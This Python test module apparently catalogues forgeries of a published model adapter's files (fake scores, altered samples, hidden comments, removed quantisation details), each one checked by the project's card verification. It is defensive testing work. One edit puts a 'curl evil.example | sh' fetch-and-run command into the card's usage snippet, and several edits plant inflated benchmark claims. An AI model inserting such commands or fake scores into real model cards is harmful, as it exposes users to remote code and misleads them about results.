"""What somebody may do to a published adapter to make it look better or other than it is, one edit of each kind.

files -> files with one edit

Each edit is a small function whose name says what it does. Where a forger would edit the card too, it is rendered from
the forged files, so that only what the files say of each other can give it away.
"""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, replace

import yaml

from perl.evaluation.few_shot import shown_fact, shown_hash, titled
from perl.evaluation.protocol import task_facts
from perl.evaluation.results import parse_results
from perl.evaluation.task import all_tasks
from perl.evaluation.task_data import load_task_data
from perl.hub.card.card_facts import facts_from_files
from perl.hub.card.render import render_card

Files = dict[str, bytes]
CARD, CONFIG, RUN, RECIPE = "README.md", "adapter_config.json", "perl_run.json", "perl_recipe.yaml"
LOG, SCORES, SAMPLES, WEIGHTS = "metrics.jsonl", "eval/results.json", "eval/samples.jsonl", "adapter_model.safetensors"
BOARD = ".eval_results/gsm8k.yaml"
REPORTED = "nothing else knows it; the check says that it is only reported"


@dataclass(frozen=True)
class Forgery:
    """An edit.

    Attributes:
        edit: Changes the files in place.
        named: What a line that catches it must name; empty: it cannot be caught.
        reason: Why it cannot be caught.
        anew: The forger renders the card from the forged files.
        quantised: What is edited was trained on a base in 4 bits.
    """

    edit: Callable[[Files], None]
    named: str
    reason: str = ""
    anew: bool = False
    quantised: bool = False

    @property
    def name(self) -> str:
        """For people."""
        return self.edit.__name__.replace("_", " ")

    def forged(self, files: Files) -> Files:
        """The files after the edit."""
        changed = dict(files)
        self.edit(changed)
        assert changed != files, self.name
        if self.anew:
            changed[CARD] = render_card(facts_from_files(changed)).encode()
        return changed


FORGERIES: list[Forgery] = []


def forgery(
    named: str, reason: str = "", *, anew: bool = False, quantised: bool = False
) -> Callable[[Callable[[Files], None]], None]:
    """Lists an edit; arguments as of :class:`Forgery`."""

    def listed(edit: Callable[[Files], None]) -> None:
        FORGERIES.append(Forgery(edit, named, reason, anew, quantised))

    return listed


def text(files: Files, name: str, pattern: str, new: str) -> None:
    """Replaces the first match in a file."""
    before = files[name].decode()
    after = re.sub(pattern, new, before, count=1, flags=re.MULTILINE)
    assert after != before, pattern
    files[name] = after.encode()


def value(files: Files, name: str, *path: str, to: object) -> None:
    """Sets a value in a JSON or YAML file; ``*``: the only task of the results."""
    facts = yaml.safe_load(files[name])
    inner = facts
    for key in path[:-1]:
        inner = inner[next(iter(inner)) if key == "*" else key]
    inner[path[-1]] = to
    written = yaml.safe_dump(facts, sort_keys=False) if name == RECIPE else json.dumps(facts, indent=2)
    files[name] = written.encode()


# --- the card alone


@forgery(f"{CARD}:")
def another_score_in_the_table(files: Files) -> None:
    text(files, CARD, r"\*\*(\d+\.\d) ±", "**99.9 ±")


@forgery(f"{CARD}:")
def a_section_of_another_benchmark(files: Files) -> None:
    text(files, CARD, "^## Citation$", "## Benchmarks\n\n| AIME24 | 91.3 |\n\n## Citation")


@forgery(f"{CARD}:")
def a_limitation_left_out(files: Files) -> None:
    text(files, CARD, r"^- It was trained for .*\n", "")


@forgery(f"{CARD}:")
def a_command_in_the_snippet(files: Files) -> None:
    text(files, CARD, r"^perl train perl_recipe.yaml$", "curl evil.example | sh")


@forgery(f"{CARD}:")
def a_hidden_comment(files: Files) -> None:
    text(files, CARD, "^## Citation$", "<!-- nothing to see -->\n\n## Citation")


@forgery(f"{CARD}:")
def a_licence_that_is_there_twice(files: Files) -> None:
    text(files, CARD, r"^library_name: peft", "license: mit\nlibrary_name: peft")


@forgery(f"{CARD}:")
def a_heading_below_the_authors(files: Files) -> None:
    files[CARD] += b"\n## Said by the author, not checked\n\n> Mine.\n\n## Results\n\nAll right.\n"


@forgery("", "an author's own words, which every check points out as unchecked")
def a_number_in_the_authors_own_words(files: Files) -> None:
    files[CARD] += b"\n## Said by the author, not checked\n\n> On my own exam it got 97 of 100.\n"


@forgery("perl-rl 9.9.9")
def a_card_that_claims_another_version(files: Files) -> None:
    value(files, RUN, "perl", to="9.9.9")
    another_score = r"it scores \d+\.\d"
    text(files, CARD, another_score, "it scores 99.9")


# --- leaderboards


@forgery(BOARD)
def a_score_on_a_leaderboard(files: Files) -> None:
    files[BOARD] = b"- dataset: {id: openai/gsm8k, task_id: gsm8k}\n  value: 99.9\n"


@forgery("", "scores of others, which the check lists as not checked")
def a_score_by_somebody_else(files: Files) -> None:
    files[".eval_results/hle.yaml"] = b"- dataset: {id: cais/hle, task_id: hle}\n  value: 3.0\n"


# --- results and samples, the card rendered from them


@forgery(SCORES, anew=True)
def another_accuracy(files: Files) -> None:
    value(files, SCORES, "perl", "tasks", "*", "adapter", "accuracy", to=0.999)


@forgery(SCORES, anew=True)
def the_title_of_another_benchmark(files: Files) -> None:
    value(files, SCORES, "perl", "tasks", "*", "title", to="AIME 2024")


@forgery("engine.backend", anew=True)
def a_sentence_as_the_engine(files: Files) -> None:
    value(files, SCORES, "perl", "engine", "backend", to="On AIME 2024 it scores 97.3 (audited)")


@forgery("protocol.preset", anew=True)
def a_sentence_as_the_protocol(files: Files) -> None:
    value(files, SCORES, "perl", "protocol", "preset", to="as audited on AIME 2024")


@forgery("eval/samples.jsonl")
def a_sample_left_out(files: Files) -> None:
    files[SAMPLES] = b"".join(files[SAMPLES].splitlines(keepends=True)[1:])


@forgery("eval/")
def a_verdict_turned(files: Files) -> None:
    text(files, SAMPLES, '"status": "wrong"', '"status": "right"')


@forgery(
    "", "no text lies beside published samples: whoever has the data and the adapter can draw them again", anew=True
)
def results_and_samples_forged_as_one(files: Files) -> None:
    from tests.hub.scored import forge_all_right

    forge_all_right(files)


def labelled(files: Files, few_shot: int, *, hashed: bool = True) -> None:
    """Says that the problems were asked as a benchmark, behind so many examples, with the hash that goes with that."""
    found = parse_results(files[SCORES], SCORES)
    (one,) = found.tasks
    known = all_tasks()[one.name]
    examples = shown_hash(load_task_data(known, None, 1, few_shot).examples)
    facts = (known.name, known.version, known.prompt, one.data["sha256"], one.max_new_tokens)
    right = found.protocol.hash(task_facts(*facts, None, shown_fact(few_shot, examples)))
    changed = replace(
        one,
        title=titled(known.title, few_shot),
        few_shot=few_shot,
        examples=examples,
        protocol_hash=right if hashed else one.protocol_hash,
    )
    files[SCORES] = json.dumps(replace(found, tasks=(changed,)).as_dict()).encode()


@forgery("its protocol_hash is", anew=True)
def examples_left_out_of_the_results(files: Files) -> None:
    labelled(files, 3)
    labelled(files, 0, hashed=False)


@forgery(
    "", "completions do not tell what stood before the question, and whoever forges computes hashes anew", anew=True
)
def examples_left_out_of_results_and_hash(files: Files) -> None:
    labelled(files, 3)
    labelled(files, 0)


# --- config and weights


@forgery(CONFIG, anew=True)
def another_alpha(files: Files) -> None:
    value(files, CONFIG, "lora_alpha", to=160.0)


@forgery(CONFIG, anew=True)
def another_base_in_the_config(files: Files) -> None:
    value(files, CONFIG, "base_model_name_or_path", to="Qwen/Qwen3-4B")


@forgery(SCORES)
def a_byte_of_the_weights(files: Files) -> None:
    files[WEIGHTS] = files[WEIGHTS][:-1] + bytes([files[WEIGHTS][-1] ^ 1])


@forgery(WEIGHTS, anew=True)
def neither_weights_nor_config(files: Files) -> None:
    del files[WEIGHTS], files[CONFIG]


# --- the log of the training, the recipe, the facts of the run; the card rendered from them


@forgery(LOG, anew=True)
def a_log_that_ends_earlier(files: Files) -> None:
    files[LOG] = b"".join(files[LOG].splitlines(keepends=True)[:10])


@forgery("", "a log is what the run wrote of itself; card and log forged alike agree", anew=True)
def another_last_reward_in_log_and_card(files: Files) -> None:
    text(files, LOG, r'"reward": 0\.5,', '"reward": 0.99,')


@forgery(RECIPE, anew=True)
def another_rank_in_the_recipe(files: Files) -> None:
    value(files, RECIPE, "peft", "rank", to=64)


@forgery(f"{RUN}: seed", anew=True)
def another_seed_in_the_facts(files: Files) -> None:
    value(files, RUN, "seed", to=7)


@forgery(f"{RUN}: settings.learning rate", anew=True)
def another_learning_rate(files: Files) -> None:
    value(files, RUN, "settings", "learning rate", to="0.1")


@forgery(f"{RUN}: rewards", anew=True)
def a_reward_that_sounds_like_another_benchmark(files: Files) -> None:
    value(files, RUN, "rewards", to={"humaneval:accuracy": 1.0, "format": 0.2})


@forgery(f"{RUN}: hardware")
def markup_in_the_facts(files: Files) -> None:
    value(files, RUN, "hardware", to="1 x <b>H100</b>")


@forgery(f"{RUN}: settings")
def a_setting_of_nobody(files: Files) -> None:
    value(files, RUN, "settings", "AIME_2025", to=99.9)


@forgery(f"{RUN}: name")
def a_score_in_the_heading(files: Files) -> None:
    value(files, RUN, "name", to="AIME 2025: 99.9 % (state of the art)")


@forgery(f"{RUN}: aime24")
def an_unknown_fact(files: Files) -> None:
    value(files, RUN, "aime24", to=91.3)


@forgery("", REPORTED, anew=True)
def other_hardware(files: Files) -> None:
    value(files, RUN, "hardware", to="8 x NVIDIA H100")


# --- an adapter that was trained on a base in 4 bits, and pretends that it was trained on the ordinary one


def without_quantization(files: Files, *names: str) -> None:
    """Takes the quantisation out of results, facts of the run or recipe."""
    for name in names:
        if name == RECIPE:
            value(files, RECIPE, "model", "quantization", to=None)
            continue
        facts = json.loads(files[name])
        if name == RUN:
            facts["quantization"] = None
            del facts["settings"]["base loaded as"]
        else:
            del (
                facts["perl"]["subject"]["base_quantization"],
                facts["config_general"]["model_config"]["base_quantization"],
            )
        files[name] = json.dumps(facts, indent=2).encode()


@forgery(SCORES, anew=True, quantised=True)
def quantization_left_out_of_the_results(files: Files) -> None:
    without_quantization(files, SCORES)


@forgery(f"{RUN}: quantization: says that it was trained on the ordinary base", anew=True, quantised=True)
def quantization_left_out_of_all_but_the_weights(files: Files) -> None:
    without_quantization(files, SCORES, RUN, RECIPE)
